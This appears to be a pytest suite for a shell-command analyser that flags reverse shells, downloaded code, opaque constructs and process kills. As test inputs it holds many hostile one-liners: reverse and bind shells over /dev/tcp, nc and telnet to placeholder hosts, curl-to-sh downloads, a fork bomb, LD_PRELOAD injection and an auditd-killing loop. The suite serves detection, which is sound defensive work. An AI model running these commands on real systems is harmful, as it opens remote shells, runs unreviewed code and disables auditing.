"""The interpreter: what is noted of a command, and how surely."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from guard.model import Parsed
from guard.parse.budget import Budget
from guard.parse.reading import UNKNOWN, Reading, Run
from guard.parse.shell import Interpreter, read_runs, read_shell


def _read(text: str, **settings: Any) -> Parsed:
    return read_shell(text, Budget(), **settings)


def _of(parsed: Parsed, kind: str) -> list[Mapping[str, Any]]:
    return [o for o in parsed.operations if o["kind"] == kind]


def _programs(text: str) -> list[str]:
    return [o["program"] for o in _of(_read(text), "process.exec")]


def _opaque(text: str) -> set[tuple[str, str]]:
    return {(o["severity"], o["kind"]) for o in _read(text).opaque}


# --- shells on sockets ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "direction", "host", "port"),
    [
        ("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "reverse", "203.0.113.5", 4444),
        ("exec 5<>/dev/tcp/a.b/99; bash <&5 >&5 2>&5", "reverse", "a.b", 99),
        ("sh </dev/tcp/a.b/99 >&0 2>&0", "reverse", "a.b", 99),
        (
            "exec 5<>/dev/tcp/a.b/9; cat <&5 | while read l; do $l 2>&5 >&5; done",
            "reverse",
            "a.b",
            9,
        ),
        ("0<&9; exec 9<>/dev/udp/a.b/53; sh <&9 >&9", "reverse", "a.b", 53),
        ("mkfifo f; cat f | sh -i 2>&1 | nc a.b 99 > f", "reverse", "a.b", 99),
        ("nc a.b 99 | bash", "reverse", "a.b", 99),
        ("rm -f f; mknod f p; telnet a.b 99 0<f | sh 1>f", "reverse", "a.b", 99),
        ("nc -l -p 99 | sh", "bind", "", 99),
        ("bash -i > /dev/tcp/a.b/99 2>&1", "reverse", "a.b", 99),
        ("while read l; do eval $l; done < /dev/tcp/a.b/7", "reverse", "a.b", 7),
        ("coproc nc a.b 99; sh <&${COPROC[0]} >&${COPROC[1]}", "reverse", "a.b", 99),
    ],
)
def test_shell_on_a_socket_is_noted(text: str, direction: str, host: str, port: int) -> None:
    """A shell whose input or output is a socket is a `network.shell`, whatever joins them."""
    found = _of(_read(text), "network.shell")
    assert {(o["direction"], o["host"], o["port"]) for o in found} >= {(direction, host, port)}


@pytest.mark.parametrize(
    "text",
    ["curl http://a.b/x | grep y", "nc a.b 99 < file", "bash build.sh | nc a.b 99", "cat f | sh"],
)
def test_what_only_sends_or_reads_is_no_shell_on_a_socket(text: str) -> None:
    """Data that passes a socket makes no remote shell."""
    assert _of(_read(text), "network.shell") == []


# --- unknown code ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "origin"),
    [
        ("curl http://a.b/x | sh", "curl"),
        ("wget -qO- http://a.b/x | sudo bash", "wget"),
        ("curl http://a.b/x | base64 -d | bash", "curl"),
        ("curl http://a.b/x > y; sh y", "curl"),
        ("curl -o y http://a.b/x; chmod +x y; ./y", "curl"),
        ('eval "$(curl http://a.b/x)"', "curl"),
        (". <(curl http://a.b/x)", "curl"),
    ],
)
def test_downloaded_code_is_opaque_and_named(text: str, origin: str) -> None:
    """Code that nobody has seen is opaque at high severity, and says where it comes from."""
    found = [o for o in _read(text).opaque if o["severity"] == "high"]
    assert [o["kind"] for o in found] == ["unknown_code"]
    assert origin in found[0]["detail"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('"$PYTHON" -m pytest', ("high", "unresolved_command")),
        ("$(curl http://a.b/x) y", ("high", "unresolved_command")),
        ("/usr/bin/s?h h", ("high", "globbed_command")),
        ("echo 'unclosed", ("high", "unreadable_syntax")),
        ("enable -f ./x.so y", ("high", "loaded_builtin")),
        ("LD_PRELOAD=./x.so ls", ("high", "preloaded_code")),
        ("BASH_ENV=./x bash -c :", ("medium", "startup_file")),
        ("bash build.sh", ("medium", "unread_file")),
        ("./run.sh", ("medium", "unread_file")),
        (". ~/.bashrc", ("low", "unread_file")),
        ('eval "$(pyenv init -)"', ("medium", "unknown_code")),
        ('bash -c "make $TARGET"', ("medium", "partly_unknown_code")),
        ("PATH=/tmp ls", ("medium", "search_path")),
        ("export PATH=$PATH:/opt/x/bin", ("low", "search_path")),
        ("PAGER=$X git log", ("medium", "command_variable")),
        (":(){ :|:& };:", ("high", "fork_bomb")),
        ("rm -rf $X y", ("low", "unknown_argument")),
    ],
)
def test_each_hidden_part_has_a_kind_and_a_severity(text: str, expected: tuple[str, str]) -> None:
    """What cannot be seen is named, and weighs as much as it matters."""
    assert expected in _opaque(text)


def test_syntax_error_keeps_the_lines_before_it() -> None:
    """Bash runs the lines before an error, so they are judged."""
    parsed = _read("ssh -R 1 h\nfi")
    assert [o["program"] for o in _of(parsed, "process.exec")] == ["ssh"]
    assert [o["kind"] for o in parsed.opaque if o["severity"] == "high"] == ["unreadable_syntax"]


def test_where_points_into_the_judged_text() -> None:
    """An opaque part says which command of the judged text it belongs to."""
    text = "ls; curl http://a.b/x | sh"
    found = next(o for o in _read(text).opaque if o["kind"] == "unknown_code")
    start, end = found["where"]
    assert text[start:end] == "sh"


# --- certainty, ways, places ----------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "certainty"),
    [
        ("tool", "must"),
        ("a; tool", "must"),
        ("a && tool", "may"),
        ("true && tool", "must"),
        ("a || tool", "may"),
        ("if a; then tool; fi", "may"),
        ("for i in 1 2; do tool; done", "must"),
        ("for i in *; do tool; done", "may"),
        ("while a; do tool; done", "may"),
        ("case $x in y) tool;; esac", "may"),
        ("f() { tool; }; f", "must"),
        ("bash -c tool", "must"),
        ("trap tool EXIT", "may"),
        ("(tool)", "must"),
        ("tool | b", "must"),
        ("x=$(tool)", "must"),
    ],
)
def test_certainty(text: str, certainty: str) -> None:
    """What every way through the text runs is "must", the rest is "may"."""
    found = [o for o in _of(_read(text), "process.exec") if o["program"] == "tool"]
    assert {o["certainty"] for o in found} == {certainty}


def test_via_names_the_way_from_outside_in() -> None:
    """An operation tells through what it is reached."""
    found = _of(_read("sudo nohup bash -c 'eval ssh h'"), "network.connect")
    assert [o["via"] for o in found] == [["sudo", "nohup", "bash -c", "eval"]]


def test_remote_command_is_elsewhere() -> None:
    """What ssh makes another machine run happens there, and does not see our files."""
    parsed = _read("echo 'nc x 1' > f; ssh u@h 'bash f; rm -rf /data'")
    elsewhere = {o.get("elsewhere", "") for o in _of(parsed, "file.delete")}
    assert elsewhere == {"ssh:h"}
    assert "nc" not in [o["program"] for o in _of(parsed, "process.exec")]


def test_background_is_marked() -> None:
    """A program started with `&` is marked so, and so is what it starts."""
    found = _of(_read("nohup tool & other"), "process.exec")
    assert {o["program"]: o.get("background", False) for o in found} == {
        "nohup": True,
        "tool": True,
        "other": False,
    }


def test_copy_of_a_program_keeps_its_name() -> None:
    """A copy or a link of ssh is ssh under whatever name."""
    found = _of(_read("cp /usr/bin/ssh /tmp/ls; /tmp/ls -R 2222:localhost:22 u@h"), "process.exec")
    assert (found[1]["program"], found[1]["path"]) == ("ssh", "/tmp/ls")
    assert _of(_read("ln -s /usr/bin/ssh a; ./a -R 1:b:2 h"), "network.tunnel")


def test_temporary_variables_belong_to_the_program() -> None:
    """Assignments before a program go with it, and are gone afterwards."""
    parsed = _read("A=1 tool; $A other")
    found = _of(parsed, "process.exec")
    assert found[0]["environment"] == {"A": "1"}
    assert ("high", "unresolved_command") in {(o["severity"], o["kind"]) for o in parsed.opaque}


def test_command_variables_are_followed() -> None:
    """A variable whose value some program runs is read as a command that may run."""
    for name in ("GIT_SSH_COMMAND", "PAGER", "PROMPT_COMMAND", "EDITOR"):
        found = _of(_read(f"export {name}='ssh -R 2222:localhost:22 u@h'"), "network.tunnel")
        assert [(o["certainty"], o["via"]) for o in found] == [("may", [name])]


def test_subshell_keeps_its_variables_to_itself() -> None:
    """What a subshell or a pipe sets is unset after it."""
    assert _programs("(c=one); c=${c:-two}; $c") == ["two"]
    assert _programs("echo one | read c; ${c:-two}") == ["two"]
    assert _programs("bash -c 'c=one'; ${c:-two}") == ["bash", "two"]
    assert _programs("f() { local c=one; }; f; ${c:-two}") == ["two"]


def test_child_shell_sees_what_is_exported_only() -> None:
    """A new shell has the exported variables and functions, no others."""
    assert _programs("c=one; bash -c '${c:-two}'") == ["bash", "two"]
    assert _programs("export c=one; bash -c '${c:-two}'") == ["bash", "one"]
    assert _programs("c=one bash -c '${c:-two}'") == ["bash", "one"]


def test_both_branches_are_kept() -> None:
    """A variable set in a branch may have either value after it."""
    assert set(_programs("c=one; if a; then c=two; fi; $c")) == {"a", "one", "two"}
    assert set(_programs("c=one; a && c=two; $c")) == {"a", "one", "two"}
    assert set(_programs("case $1 in x) c=one;; *) c=two;; esac; $c")) == {"one", "two"}


def test_output_of_both_branches_is_kept() -> None:
    """What a branch prints is one of the texts that a substitution may give."""
    text = "$(if a > /dev/null; then echo one; else echo two; fi)"
    assert set(_programs(text)) == {"a", "one", "two"}
    assert set(_programs("$(printf on; a > b && printf e)")) == {"a", "on", "one"}


def test_variable_of_one_function_call_ends_with_it() -> None:
    """An assignment before a function or a builtin is undone after it."""
    assert _programs("f() { $c; }; c=one f; ${c:-two}") == ["one", "two"]
    assert _programs("IFS=: read x y <<< one:b; $x ${IFS:0:1}") == ["one"]


def test_lines_are_read_one_after_the_other() -> None:
    """Each `read` takes the next line; at the end there is none."""
    assert _programs("{ read a; read b; $a; $b; } <<< $'one\\ntwo'") == ["one", "two"]


def test_long_loops_are_widened() -> None:
    """Beyond the bound one turn stands for all others, with anything in what changes."""
    parsed = _read("for i in $(seq 1000); do tool$i; done")
    assert ("high", "unresolved_command") in {(o["severity"], o["kind"]) for o in parsed.opaque}
    parsed = _read("i=0; while a; do i=$((i+1)); tool x$i; done")
    assert ["tool", f"x{UNKNOWN}"] in [o["argv"] for o in _of(parsed, "process.exec")]


# --- redirections ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo a > /f", {"path": "/f", "content": "a\n"}),
        ("echo a >> /f", {"path": "/f", "append": True, "content": "a\n"}),
        ("cat > /f <<E\nx\nE", {"path": "/f", "content": "x\n"}),
        ("tool > /f", {"path": "/f", "content": None}),
        ("tool &> /f", {"path": "/f"}),
        ("printf x | tool2 2> /f", {"path": "/f"}),
        ("cd /d; echo a > f", {"path": "/d/f"}),
        ("cd d; echo a > f", {"path": "d/f"}),
        ("echo a > ~/f", {"path": "~/f"}),
        ("for i in 1 2; do echo $i; done > /f", {"path": "/f", "content": "1\n2\n"}),
        ("exec 3> /f; echo a >&3", {"path": "/f", "content": "a\n"}),
        ("echo a >| /x/../f", {"path": "/f"}),
        ("{ echo a; echo b >&2; } &> /f", {"path": "/f", "content": "a\nb\n"}),
    ],
)
def test_redirection_writes_a_file(text: str, expected: dict[str, Any]) -> None:
    """A redirection is a write, with its content where that is known."""
    found = [o for o in _of(_read(text), "file.write") if o["program"] == "bash"]
    assert [{key: o.get(key) for key in expected} for o in found] == [expected]


def test_redirection_reads_a_file() -> None:
    """`<` is a read; text in the command is none."""
    assert [o["path"] for o in _of(_read("tool < /etc/passwd"), "file.read")] == ["/etc/passwd"]
    assert _of(_read("tool <<< x"), "file.read") == []


def test_devices_are_no_files() -> None:
    """`/dev/null` and the standard streams are neither read nor written as files."""
    parsed = _read("tool > /dev/null 2>&1 < /dev/null; echo x > /dev/stderr; tool <(echo) > >(cat)")
    assert _of(parsed, "file.write") == _of(parsed, "file.read") == []


def test_content_too_long_is_left_out() -> None:
    """An operation carries 4096 characters at most."""
    found = _of(_read(f"echo {'a' * 5000} > /f"), "file.write")
    assert "content" not in found[0]


# --- entries --------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["ls -la", "git status", "ssh h", "cd src", "echo a", "kill 1"])
def test_short_cut_gives_what_the_long_way_gives(text: str) -> None:
    """Plain words are not parsed; the answer is the same."""
    interpreter = Interpreter(Budget())
    long = interpreter.result(lambda: interpreter.main(text))
    short = _read(text)
    assert short.operations == long.operations
    assert [(o["kind"], o["detail"]) for o in short.opaque] == [
        (o["kind"], o["detail"]) for o in long.opaque
    ]


def test_runs_of_other_readers_are_followed() -> None:
    """What code of another language runs is read like any command."""
    reading = Reading(
        runs=[
            Run("os.system", text="ssh -R 2222:localhost:22 u@h"),
            Run("subprocess", argv=("nc", "-e", "/bin/sh", "h", "9"), certainty="may"),
        ]
    )
    parsed = read_runs(reading, Budget())
    assert [o["via"] for o in _of(parsed, "network.tunnel")] == [["os.system"]]
    assert {o["certainty"] for o in _of(parsed, "network.shell")} == {"may"}


def test_known_environment_is_used() -> None:
    """Variables, home and folder that the host knows make names known."""
    parsed = _read("$TOOL $HOME/x; cat y", cwd="/work", home="/home/u", environment={"TOOL": "ssh"})
    assert _of(parsed, "process.exec")[0]["argv"] == ["ssh", "/home/u/x"]
    assert [o["path"] for o in _of(parsed, "file.read")] == ["/work/y"]


def test_aliases_work_where_shells_expand_them() -> None:
    """An alias is certain with `expand_aliases`, else possible."""
    sure = _read("shopt -s expand_aliases\nalias l='ssh h'\nl")
    assert [o["program"] for o in _of(sure, "process.exec")] == ["ssh"]
    unsure = _read("alias l='ssh h'\nl")
    assert {(o["program"], o["certainty"]) for o in _of(unsure, "process.exec")} == {
        ("ssh", "may"),
        ("l", "must"),
    }


HOSTILE = {
    "braces": "echo " + "{a,b}" * 40,
    "open braces": "tool " + "{" * 30_000,
    "nested braces": "tool " + "{" * 5000 + "a,b" + "}" * 5000,
    "mutual recursion": "f(){ g; g; }; g(){ f; f; }; f",
    "substitutions": "echo " + "$(" * 3000 + "ls" + ")" * 3000,
    "nested loops": "while a; do x=$x$y; " * 40 + "ls;" + " done;" * 40,
    "nested known loops": "for i in 1 2 3; do " * 40 + "ls;" + " done;" * 40,
    "doubling": "x=aaaaaaaaaa;" + "x=$x$x;" * 64 + "$x",
    "replacement": "x=" + "a" * 60_000 + "; echo ${x//a*a*a*a*b/c}",
    "chain": "a" + " && a" * 3000,
    "pipeline": "cat" + " | cat" * 3000,
    "eval": 'x=\'eval "$x"\'; eval "$x"',
    "bash -c": 'f=\'bash -c "$f"\'; export f; bash -c "$f"',
    "arithmetic": "a=b+b b=c+c c=d+d d=e+e e=f+f f=g+g g=h+h; echo $((a ** 9 ** 9)) $(("
    + "(" * 999,
    "arms": "case $x in " + "a) x=$x$y;; " * 2000 + "esac; $x",
    "aliases": "shopt -s expand_aliases\n"
    + "".join(f"alias a{i}='a{i + 1};a{i + 1}'\n" for i in range(30))
    + "a0",
    "calls": "".join(f"f{i}(){{ f{i + 1}; f{i + 1}; }};" for i in range(40)) + "f0",
    "pattern": "/bin/" + "*?" * 20_000 + " x",
    "processes": "cat " + "<(ls) " * 1000,
    "choices": "ls " + " ".join(f"a${{u{i}:+b}}b" for i in range(500)),
    "prompt": 'x=\'$(echo "${x@P}")\'; echo "${x@P}"',
    "bytes": "echo \ud800 $'\\xff\\xfe' > x; cat x | bash; $'\\xff'",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_answered(name: str) -> None:
    """Whatever grows without end is cut off within the budget, and visibly."""
    budget = Budget()
    parsed = read_shell(HOSTILE[name], budget)
    assert budget.commands <= budget.limits.commands + 1
    if name not in ("open braces", "choices"):
        assert "high" in {o["severity"] for o in parsed.opaque}


@pytest.mark.parametrize(
    "condition",
    [
        '[[ "$line" == *auditd* ]]',
        "[[ $line =~ ^auditd$ ]]",
        '[ "$line" = auditd ]',
        '[[ -n "$line" ]] && [[ "$line" == *"auditd"* ]]',
    ],
)
def test_what_is_killed_was_likely_chosen_by_the_name_that_is_compared(condition: str) -> None:
    """A number that nobody knows, behind a comparison with a name, is a signal by that name."""
    text = f'while read -r line; do if {condition}; then kill -9 "$number"; fi; done < <(ps aux)'
    found = [(o["target"], o["by"]) for o in _of(_read(text), "process.signal")]
    assert found == [(UNKNOWN, "pid"), ("auditd", "name")]


def test_a_known_number_is_killed_whatever_was_compared() -> None:
    """Comparisons say nothing of a process that is named by its number."""
    text = 'if [ "$mode" = auditd ]; then kill 4242; fi'
    assert [(o["target"], o["by"]) for o in _of(_read(text), "process.signal")] == [("4242", "pid")]


def test_no_more_names_than_a_few_are_kept() -> None:
    """A long table of comparisons does not multiply signals without end."""
    text = "".join(f'[ "$a" = name{n} ];' for n in range(99)) + 'kill "$b"'
    assert len(_of(_read(text), "process.signal")) == 17
